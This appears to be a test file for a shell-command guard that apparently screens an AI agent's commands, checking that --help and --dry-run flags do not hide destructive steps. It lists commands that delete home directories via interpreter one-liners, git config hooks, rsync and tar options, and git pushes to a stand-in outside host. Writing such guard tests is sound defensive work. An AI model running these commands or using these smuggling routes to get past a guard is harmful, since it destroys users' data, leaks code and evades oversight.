"""``--help`` and ``--dry-run`` lift the verb's effect, and nothing else.

A program given ``--help`` prints and stops; given ``--dry-run`` it skips its verb's effect. What
it does before the verb still happens: it reads a config that names a command
(``core.fsmonitor`` runs for ``git commit --dry-run``), starts its transport (a dry-run push
talks to the remote through ``core.sshCommand``; ``rsync --dry-run`` starts its ``--rsh``), and
an interpreter hands both words to the code it was given. Every case here is data handed to
the guard; none is ever run.
"""

from __future__ import annotations

import pytest

from tests.guards.test_bash import MODES, check


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "command",
    [
        "python3 -c 'import shutil; shutil.rmtree(\"/home/agent\")' --help",
        'node -e \'require("fs").rmSync("/home/agent", {recursive: true})\' --help',
        "perl -e 'system(\"rm -rf /home/agent\")' --dry-run",
        "ruby -e 'system(\"rm -rf ~\")' --help",
        "deno eval 'Deno.removeSync(\"/home/agent\", {recursive: true})' --help",
        "npx -c 'rm -rf ~' --help",
        "git -c core.fsmonitor='rm -rf ~' commit --dry-run",
        "git -c core.sshCommand='rm -rf ~' push --dry-run origin main",
        "rsync -a --rsh='sh -c \"rm -rf ~\"' src/ host:dst/ --dry-run",
        "tar -xf a.tar --to-command='rm -rf ~' --help",
        "kubectl delete namespace prod --dry-run=none",
        "kubectl delete namespace prod --dry-run=false",
    ],
)
def test_what_runs_before_the_verb_is_still_judged(command: str, mode: dict[str, bool]) -> None:
    verdict = check(command, **mode)
    assert verdict.blocked, (command, verdict)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "command",
    [
        "git push --force origin main --dry-run",
        "git clean -fdx --dry-run",
        "npm publish --dry-run",
        "bun publish --dry-run",
        "helm uninstall app --dry-run",
        "kubectl delete namespace prod --dry-run=client",
        "kubectl apply -f deploy.yaml --dry-run=server",
        "aws s3 rm s3://bucket/logs --recursive --dryrun",
        "terraform destroy --help",
        "rm -rf / --help",
        "git push --help",
        "uv run rm -rf /home/agent --help",
    ],
)
def test_the_verbs_effect_is_lifted(command: str, mode: dict[str, bool]) -> None:
    verdict = check(command, **mode)
    assert verdict.allowed, (command, verdict)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "command",
    [
        "git bisect run sh -c 'rm -rf /home/agent' --help",
        "git rebase -x 'rm -rf /home/agent' main --help",
        "git submodule foreach 'rm -rf /home/agent; :' --help",
        "git push --dry-run https://collect.example.net/x.git main",
        "git push -n https://collect.example.net/x.git main",
        "git push --dry-run --repo=https://collect.example.net/x.git",
        "git push -n $REMOTE main",
    ],
)
def test_gits_own_help_and_dry_run_push_lift_only_the_verb(
    command: str, mode: dict[str, bool]
) -> None:
    """git had a shortcut of its own that allowed any ``--help`` and any dry-run push before
    anything else was looked at: the command ``bisect run`` was handed, and where the push
    connects."""
    verdict = check(command, **mode)
    assert verdict.blocked, (command, verdict)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "command",
    ["git push -n origin main", "git push -fn", "git reset --hard HEAD~3 --help"],
)
def test_a_dry_run_push_to_a_known_remote_passes(command: str, mode: dict[str, bool]) -> None:
    verdict = check(command, **mode)
    assert verdict.allowed, (command, verdict)
